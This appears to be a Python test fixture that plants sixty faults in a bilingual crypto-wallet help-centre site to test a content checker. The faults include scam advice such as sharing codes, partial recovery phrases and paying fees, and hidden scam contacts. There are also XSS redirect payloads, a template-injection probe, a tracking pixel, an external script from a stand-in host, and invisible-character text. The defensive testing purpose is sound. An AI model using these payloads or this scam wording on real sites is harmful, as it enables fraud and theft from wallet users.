"""Sixty more faults of careless or malicious contributors, in the form of `blind`'s and written like them without a
look at the rules.
"""

import re
from pathlib import Path

from tests.bench.blind import FACTS, LANGUAGES, SAFETY, Fault, announce, append, both, into, replace, write

ACCEPTED = "docs/_data/accepted.yml"
GLOSSARY = "docs/_data/glossary.yml"
PROPER = "confirmed: {by: support-lead, date: 2026-11-20, evidence: 'Support handbook, 2026-11-18'}"

FAULTS: list[Fault] = []
fault = into(FAULTS)


def settle(root: Path, name: str, *lines: str) -> None:
    """Put `lines` in the place of the state and the value of the fact of this English name."""
    def entry(match: re.Match[str]) -> str:
        kept = [line for line in match[3].splitlines() if not line.lstrip().startswith(("state:", "value:"))]
        return "\n".join([match[1] + match[2], *(match[1] + line for line in lines), *kept]) + "\n"

    text = (root / FACTS).read_text("utf-8")
    text, found = re.subn(rf"(?m)^( +)(name: .*en: {re.escape(name)}\}})\n((?:(?! +source:) +.*\n)+)", entry, text)
    assert found == 1, f"{FACTS}: expected one fact named {name!r}"
    (root / FACTS).write_text(text, "utf-8")


def accept_by_hand(root: Path, group: str, name: str, entry: str) -> None:
    """Put `entry` in the place of what accepted.yml holds of a part; an empty one takes it away."""
    text = (root / ACCEPTED).read_text("utf-8")
    new = f"\\1  {name}: {entry}\n" if entry else "\\1"
    text, found = re.subn(rf"(?m)(^{re.escape(group)}:\n(?:  .*\n)*?)  {re.escape(name)}: .*\n", new, text)
    assert found == 1, f"{ACCEPTED}: expected {name!r} of {group!r}"
    (root / ACCEPTED).write_text(text, "utf-8")


# Slips in one language: one kind of reader does the wrong thing, or does it too late.

@fault("slips in one language")
def phrase_typed_anywhere(root: Path) -> None:
    replace(root, "docs/en/security-settings/lost-or-stolen-phone.md",
            "In that app, and nowhere else, import the old wallet", "In that app, or any other, import the old wallet")


@fault("slips in one language")
def finder_forgets_the_phone(root: Path) -> None:
    replace(root, "docs/zh/security-settings/lost-or-stolen-phone.md",
            "但别把丢的手机移出“查找”", "再把丢的手机移出“查找”")


@fault("slips in one language")
def compared_to_the_fourth_character(root: Path) -> None:
    replace(root, "docs/en/security-scams/address-poisoning.md",
            "compare it from the first character to the last", "compare the first four characters and the last four")


@fault("slips in one language")
def less_than_the_minimum(root: Path) -> None:
    replace(root, "docs/zh/withdrawals/withdraw-crypto.md",
            "先填一小笔，别低于交易所的最低充值金额", "先填一小笔，低于交易所的最低充值金额")


@fault("slips in one language")
def pending_is_sent_again(root: Path) -> None:
    replace(root, "docs/en/troubleshooting/transaction-failed.md",
            "Do not send again; see [transaction pending]", "Send it again; see [transaction pending]")


@fault("slips in one language")
def announcement_from_the_official_account_is_genuine(root: Path) -> None:
    replace(root, "docs/zh/status/announcements-and-status.md",
            "官方账号发的也一样，账号也可能被盗：", "官方账号发的除外：")


@fault("slips in one language")
def phrase_may_be_photographed(root: Path) -> None:
    replace(root, "docs/en/security-scams/protect-recovery-phrase.md",
            "No screenshots or photos. Keep it out of cloud storage", "Screenshots only. Keep it out of cloud storage")


@fault("slips in one language")
def success_and_failure_exchanged(root: Path) -> None:
    article = "docs/zh/troubleshooting/sent-to-wrong-address.md"
    replace(root, article, "| “失败” | 币没有转出 |", "| “成功” | 币没有转出 |")
    replace(root, article, "| “成功”，是熟人的地址", "| “失败”，是熟人的地址")


# Wrong link in both languages.

@fault("wrong link in both languages")
def clipboard_leads_to_typing_the_phrase(root: Path) -> None:
    tail = "(wallet-compromised.md#money-is-moving)"
    both(root, "security-scams/address-poisoning",
         (f"把币转走]{tail}", "把币转走](../account/restore-wallet.md)"),
         (f"move the coins]{tail}", "move the coins](../account/restore-wallet.md)"))


# Scam advice in both languages, as a polite person says it.

@fault("scam advice in both languages")
def some_fees_are_genuine(root: Path) -> None:
    both(root, "account/account-locked",
         ("一分钱也不付，看", "金额不大、有收据的可以先付，其余看"),
         ("Pay nothing; see", "A small fee with a receipt may be paid first; otherwise see"))


@fault("scam advice in both languages")
def part_of_the_phrase_is_harmless(root: Path) -> None:
    both(root, "security-scams/protect-recovery-phrase",
         ("给一部分，余下的就更容易猜", "给一部分，余下的没人猜得出"),
         ("Part of it makes the rest easier to guess", "Part of it is of no use without the rest"))


@fault("scam advice in both languages")
def verification_by_an_acquaintance(root: Path) -> None:
    both(root, "withdrawals/limits-and-identity-verification",
         ("卖“提额”“代认证”的都是骗子，也别借别人的账户。", "急用的，可请认证过的人代收，分他一点。"),
         ("Whoever sells higher limits or offers to verify for you is a scammer. Do not borrow an account.",
          "If it is urgent, somebody who is verified can receive it for you and keep a little."))


@fault("scam advice in both languages")
def signature_to_prove_ownership(root: Path) -> None:
    both(root, "contact/what-support-can-do",
         ("- 让你扫码、连接钱包、签名\n", "- 让你扫码（核对归属时连接钱包、签名是正常的）\n"),
         ("- They want you to scan a code, connect your wallet or sign\n",
          "- They want you to scan a code (connecting your wallet and signing to show it is yours is normal)\n"))


@fault("scam advice in both languages")
def helper_may_be_paid_after_success(root: Path) -> None:
    both(root, "deposits/missing-memo-or-tag",
         ("有人私下说能帮你补 Memo，要你先转币，不要转。",
          "有人说能帮你补 Memo，先转一点，补上再转余下的。"),
         ('If somebody offers to "add the memo" and wants coins first, do not send any.',
          'If somebody offers to "add the memo", send a little first, and the rest once it is added.'))


@fault("scam advice in both languages")
def chat_goes_on_elsewhere(root: Path) -> None:
    both(root, "contact/live-chat-support",
         ("每一步操作都由你自己来。", "复杂的会请你到对方的工作号继续，方便发文件。"),
         ("every step is yours to do.", "if difficult, you go on at their work account, where files go through."))


# Hidden contacts.

@fault("hidden contacts")
def contact_in_a_stylesheet(root: Path) -> None:
    append(root, "overrides/styles/footer.css",
           '\n.site-footer::after {\n  content: "24/7: care@tpwallet-desk.test";\n  display: block;\n}\n')


@fault("hidden contacts")
def copy_of_each_message(root: Path) -> None:
    both(root, "contact/email-support",
         ("主题：问题、日期、网络\n",
          "主题：问题、日期、网络\n抄送：care 在 tpwallet-desk 点 test\n"),
         ("Subject: problem, date, network\n",
          "Subject: problem, date, network\nCopy to: care, tpwallet-desk, dot test\n"))


@fault("hidden contacts")
def code_to_scan_in_block_letters(root: Path) -> None:
    squares = "█▀▀▀▀▀█ ▄▀ █▀▀▀▀▀█", "█ ███ █ ▀▄ █ ███ █", "█ ▀▀▀ █ █▀ █ ▀▀▀ █", "▀▀▀▀▀▀▀ ▀▄ ▀▀▀▀▀▀▀"
    code = "\n".join(("\n```text", *squares, "```\n"))
    both(root, "contact/live-chat-support",
         ("\n## 正常会看到什么", f"\n扫这个码直接接通：\n{code}\n## 正常会看到什么"),
         ("\n## What you should see", f"\nScan this to be put through:\n{code}\n## What you should see"))


@fault("hidden contacts")
def name_to_be_put_together(root: Path) -> None:
    both(root, "contact/keep-records-and-complain",
         ("没有专门的渠道，就在原工单里写明“投诉”。", "没有专门的渠道，就在聊天软件里搜本站名字加“理赔专员”四个字。"),
         ('If there is no special channel, write "Complaint" in the same support request.',
          'If there is no special channel, look in your messenger for our name followed by the word "claims".'))


@fault("hidden contacts")
def number_in_pictured_digits(root: Path) -> None:
    keycaps = " ".join(digit + "\ufe0f\u20e3" for digit in "000000000")
    both(root, "security-settings/lost-or-stolen-phone",
         ("被偷的，向当地警方报案，拿回执。", f"被偷的，向当地警方报案，拿回执，再告诉我们：{keycaps}。"),
         ("report it to local police and get a reference.", f"report it to local police and tell us: {keycaps}."))


@fault("hidden contacts")
def contact_among_the_questions(root: Path) -> None:
    both(root, "contact/email-support",
         ("  - 客服邮箱是多少\n", "  - 客服邮箱是不是 care（圈a）tpwallet-desk（点）test\n"),
         ("  - support email address\n", "  - is care [at] tpwallet-desk [dot] test the support email address\n"))


@fault("hidden contacts")
def contact_in_the_feed(root: Path) -> None:
    replace(root, "overrides/feed.xml", "</feed>",
            "<contributor><name>Claims</name><uri>https://claims.tpwallet-desk.test</uri></contributor></feed>")


# Contract, address, memo.

@fault("contract, address, memo")
def memo_of_zeros(root: Path) -> None:
    both(root, "withdrawals/withdraw-crypto",
         ("没有那个网络，或要填却没有这一栏，就别发。", "没有给 Memo 的，填 000000 就能到。"),
         ("If that network, or a field you need, is missing, do not send.", "If you were given no memo, enter 000000."))


# Unconfirmed claims.

@fault("unconfirmed claims")
def frozen_accounts_open_overnight(root: Path) -> None:
    both(root, "account/account-locked",
         ("锁定本身不会扣余额；解不解、要多久，由平台决定。", "锁定本身不会扣余额，隔天一般就解开。"),
         ("A lock alone takes nothing from your balance; whether and when it ends is up to the platform.",
          "A lock alone takes nothing from your balance, and is usually lifted overnight."))


@fault("unconfirmed claims")
def support_finds_lost_networks(root: Path) -> None:
    both(root, "deposits/deposit-wrong-network",
         ("平台不支持的网络，可能找不回。", "平台不支持的网络，技术部门也会全数找回。"),
         ("If the platform does not support that network, it may be lost.",
          "Even from a network it does not support, its engineers bring all of it back."))


# Raw HTML, links, attributes: in articles, and in what they are shown with.

@fault("raw HTML, links, attributes")
def link_whose_title_breaks_out(root: Path) -> None:
    tail = "](../contact/contact-tpwallet-support.md)"
    replace(root, "docs/en/security-settings/strong-password.md", tail,
            tail[:-1] + " 'a&quot; onmouseover=&quot;location=`//wallet-care.test`')")


@fault("raw HTML, links, attributes")
def instruction_that_ends_too_soon(root: Path) -> None:
    for language in "zh", "en":
        append(root, f"docs/{language}/account/verify-identity.md",
               "\n<?note ><img src=x onerror=\"location='//wallet-care.test'\">?>\n")


@fault("raw HTML, links, attributes")
def placeholder_that_computes(root: Path) -> None:
    for language in "zh", "en":
        append(root, f"docs/{language}/reference/fees.md", "\n{{ config.__class__.__init__.__globals__ }}\n")


@fault("raw HTML, links, attributes")
def picture_that_is_a_link(root: Path) -> None:
    replace(root, "overrides/pictures/wrong-network.svg", "{% block drawing %}\n",
            '{% block drawing %}\n<a href="https://wallet-care.test/recover"><rect width="340" height="302" '
            'fill="transparent"/></a>\n')


@fault("raw HTML, links, attributes")
def footer_that_counts_readers(root: Path) -> None:
    replace(root, "overrides/partials/footer.html", '<footer class="site-footer">\n',
            '<footer class="site-footer">\n  <img src="//count.wallet-care.test/p.gif" alt="" width="1" height="1">\n')


@fault("raw HTML, links, attributes")
def copy_button_asks_for_more(root: Path) -> None:
    replace(root, "overrides/assets/javascripts/copy.js",
            r'.join("\n");', r'.join("\n") + "\n- 12 words / 助记词:";')


@fault("raw HTML, links, attributes")
def styles_from_elsewhere(root: Path) -> None:
    replace(root, "mkdocs.yml", "extra_css:\n", "extra_css:\n  - https://styles.wallet-care.test/site.css\n")


# Stray files, symbolic links, names.

@fault("stray files, symbolic links, names")
def redirects_of_the_host(root: Path) -> None:
    write(root, "docs/_redirects", "/contact/* https://wallet-care.test/:splat 302\n")


@fault("stray files, symbolic links, names")
def stylesheet_in_place_of_ours(root: Path) -> None:
    write(root, "docs/assets/stylesheets/site.css", ".safety { display: none; }\n")


@fault("stray files, symbolic links, names")
def translation_beside_the_article(root: Path) -> None:
    article = (root / "docs/zh/deposits/deposit-crypto.md").read_text("utf-8")
    write(root, "docs/zh/deposits/deposit-crypto.en.md", article)


@fault("stray files, symbolic links, names")
def partial_of_the_theme_replaced(root: Path) -> None:
    write(root, "overrides/partials/javascripts/base.html",
          '<script src="https://cdn.wallet-care.test/t.js"></script>\n')


@fault("stray files, symbolic links, names")
def app_among_the_pictures(root: Path) -> None:
    (root / "overrides/assets/images/tpwallet.apk").write_bytes(b"PK\x03\x04\x00\x00")


@fault("stray files, symbolic links, names")
def picture_that_is_a_configuration(root: Path) -> None:
    picture = root / "overrides/assets/images/shield.svg"
    picture.unlink()
    picture.symlink_to("../../../mkdocs.yml")


# facts.yml: confirmations that look proper.

@fault("facts.yml")
def every_host_is_ours(root: Path) -> None:
    settle(root, "official website", "state: confirmed", "value: test", PROPER)


@fault("facts.yml")
def look_alike_among_our_hosts(root: Path) -> None:
    settle(root, "official website", "state: confirmed", "value: 'tpwallet.test, tpwa11et.test'", PROPER)


@fault("facts.yml")
def handbook_of_next_year(root: Path) -> None:
    settle(root, "reply time by e-mail", "state: confirmed", "value: {zh: 1 小时, en: 1 hour}",
           PROPER.replace("2026-11-18", "2027-11-18"))


@fault("facts.yml")
def hours_become_days(root: Path) -> None:
    settle(root, "time to review a withdrawal", "state: confirmed", "value: {zh: 24 小时, en: 24 days}", PROPER)


@fault("facts.yml")
def withdrawn_before_it_was_confirmed(root: Path) -> None:
    settle(root, "withdrawal limits", "state: confirmed", "value: {zh: 没有限额, en: no limits}", PROPER,
           "withdrawn: {by: support-lead, date: 2026-11-01, why: an older figure}")


@fault("facts.yml")
def two_steps_are_not_offered(root: Path) -> None:
    settle(root, "two-step verification", "state: not_offered",
           "confirmed: {by: product-lead, date: 2026-11-24, evidence: 'n/a, 2026-11-24'}")


@fault("facts.yml")
def support_is_where_wallets_are_imported(root: Path) -> None:
    settle(root, "way to support in the app", "state: confirmed",
           "value: {zh: 我的 > 帮助与客服, en: Me > Import wallet > Recovery phrase}", PROPER)


@fault("facts.yml")
def unconfirmed_but_within_the_hour(root: Path) -> None:
    replace(root, FACTS, "instead: {zh: 回复时间尚未确认, en: the reply time is not yet confirmed}",
            "instead: {zh: 一般一小时内回复, en: usually within the hour}")


# Other data files.

@fault("other data files")
def code_is_safe_with_support(root: Path) -> None:
    replace(root, SAFETY, "能给客服的：交易哈希、时间、网络、打码截图、App 版本。",
            "能给客服的：交易哈希、时间、网络、打码截图、App 版本、收到的六位数字。")


@fault("other data files")
def first_one_went_out(root: Path) -> None:
    replace(root, SAFETY, "check on a block explorer that the first one did not go out.",
            "check on a block explorer that the first one did go out.")


@fault("other data files")
def phone_number_leads_to_the_chat(root: Path) -> None:
    replace(root, "docs/_data/search.yml", "  - article: phone-support\n", "  - article: live-chat-support\n")


@fault("other data files")
def kinds_of_account_exchanged(root: Path) -> None:
    text = (root / LANGUAGES).read_text("utf-8")
    custodial, words = "用邮箱或手机号登录的账户", "有 12 或 24 个助记词的钱包"
    assert custodial in text and words in text, f"{LANGUAGES}: expected both kinds"
    text = text.replace(custodial, "…").replace(words, custodial).replace("…", words)
    (root / LANGUAGES).write_text(text, "utf-8")


@fault("other data files")
def sample_called_official(root: Path) -> None:
    replace(root, LANGUAGES, "sample: 非官方示例：内容未经 TPWallet 确认", "sample: 官方帮助中心：内容由 TPWallet 核实")


@fault("other data files")
def cold_wallet_for_safety(root: Path) -> None:
    replace(root, GLOSSARY, "要你把币转到“官方冷钱包”才安全的，是骗子。", "暂时不用的币，可交给平台的冷钱包代存。")
    replace(root, GLOSSARY,
            "Whoever tells you to move your coins to an 'official cold wallet' for safety is a scammer.",
            "Coins you do not need for now can be left with the platform's cold wallet.")


@fault("other data files")
def failure_takes_the_money(root: Path) -> None:
    path = "docs/_data/pictures.yml"
    replace(root, path, "待确认：等。失败：没离开付款方", "待确认：再发一次。失败：钱没了")
    replace(root, path, "Pending: wait. Failed: never left", "Pending: resend. Failed: lost")


# Controls removed or suppressed.

@fault("controls removed or suppressed")
def digest_of_another_line(root: Path) -> None:
    replace(root, SAFETY, "谁要都不给。", "除了客服谁要都不给。")
    replace(root, SAFETY, "Never give anyone your", "Except to support, never give anyone your")
    accept_by_hand(root, "safety.yml", "SAFE-1",
                   "{hash: 121323a7fec643d8cd18816d679d2be4, by: support-lead, date: 2026-11-26}")


@fault("controls removed or suppressed")
def section_no_longer_listed(root: Path) -> None:
    both(root, "account/account-locked",
         ("只有发行方解得开，从它的官方渠道问。", "我们的合作方也解得开。"),
         ("Only the issuer can undo it; ask through its official channel.", "Our partners can undo it too."))
    accept_by_hand(root, "account/account-locked/", "token-freeze", "")


@fault("controls removed or suppressed")
def taken_over_is_called_read(root: Path) -> None:
    text = (root / ACCEPTED).read_text("utf-8")
    assert "by: taken-over" in text, f"{ACCEPTED}: expected what was taken over"
    text = text.replace("by: taken-over, date: 2026-11-25", "by: support-lead, date: 2027-11-25")
    (root / ACCEPTED).write_text(text, "utf-8")


# Announcements.

@fault("announcements")
def compensation_for_a_code(root: Path) -> None:
    when = "urgent", "2026-11-25 10:00+08:00", "2026-12-05 10:00+08:00"
    announce(root, "delayed-credits",
             zh=("部分充值补偿", "受影响的用户，回复客服来电里的六位数字即可入账。",
                 *when, "接到来电请照做，当天入账。"),
             en=("Credit for delayed deposits", "If you are affected, read out the six digits when support calls.",
                 *when, "Please do as the caller says; you are credited the same day."))


@fault("announcements")
def urgent_in_one_language(root: Path) -> None:
    when = "2026-11-25 10:00+08:00", "2026-12-05 10:00+08:00"
    announce(root, "withdrawals-paused",
             zh=("提现暂停", "提现暂停，已提交的不要重复提交。", "notice", *when, "恢复后会在这里说明。"),
             en=("Withdrawals are paused", "Withdrawals are paused; submit nothing twice.", "urgent", *when,
                 "We will say here when they resume."))


# Encoding.

@fault("encoding")
def letters_that_nobody_sees(root: Path) -> None:
    unseen = "".join(chr(0xE0000 + ord(letter)) for letter in "care@wallet-care.test")
    both(root, "contact/what-support-can-do",
         ("退出对话，", f"退出对话{unseen}，"), ("Leave the chat and", f"Leave the chat{unseen} and"))


@fault("encoding")
def separator_in_a_description(root: Path) -> None:
    replace(root, "docs/en/contact/email-support.md",
            "Check the address in the app first,", "Check the address in the app first,\u2028type: reference\u2028")
